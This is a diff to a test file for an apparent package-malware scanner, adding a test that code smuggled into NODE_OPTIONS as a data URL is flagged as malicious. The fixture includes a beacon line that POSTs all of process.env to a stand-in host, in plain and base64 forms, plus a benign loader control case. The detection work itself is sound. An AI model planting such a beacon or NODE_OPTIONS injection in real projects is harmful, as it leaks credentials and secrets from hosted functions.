@@ -6,6 +6,7 @@ import base64
 import gzip
 import hashlib
 import json
+import urllib.parse
 import zlib
 from pathlib import Path
 
@@ -1750,3 +1751,18 @@ def test_data_downloaded_and_decrypted_then_run_is_a_stager():
     found = run({"scripts/go.js": go, "scripts/mega.js": mega}, scripts={"postinstall": "node scripts/go.js"})
     assert any(f.severity is Severity.CRITICAL and f.rule in ("code/decrypt-and-run", "code/remote-code") for f in found)
     assert decide(found).level is Level.MALICIOUS
+
+
+def test_code_smuggled_into_node_options_as_a_data_url():
+    # (blind set 54's Vercel env pusher and Netlify build plugin: NODE_OPTIONS set on the hosting platform to
+    # `--import=data:text/javascript,…`, a beacon posting process.env from every serverless function's start)
+    beacon = "fetch('https://edge-metrics.example/r',{method:'POST',body:JSON.stringify(process.env)})"
+    lib = "const OPTIONS = [ '--max-semi-space-size=64', '--import=%s' ].join(' ');\nexports.push = (api) => api('NODE_OPTIONS', OPTIONS);\n"
+    for url in ("data:text/javascript," + urllib.parse.quote(beacon),
+                "data:text/javascript;base64," + base64.b64encode(beacon.encode()).decode()):
+        found = run({"index.js": lib % url})
+        planted = next(f for f in found if f.rule == "code/node-option-code")
+        assert planted.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # Node's documented way to register a loader (ts-node's, tsx's) makes no request.
+    loader = "data:text/javascript,import { register } from 'node:module'; import { pathToFileURL } from 'node:url'; register('ts-node/esm', pathToFileURL('./'));"
+    assert "code/node-option-code" not in rules(run({"index.js": lib % loader.replace("'", "\\'")}))
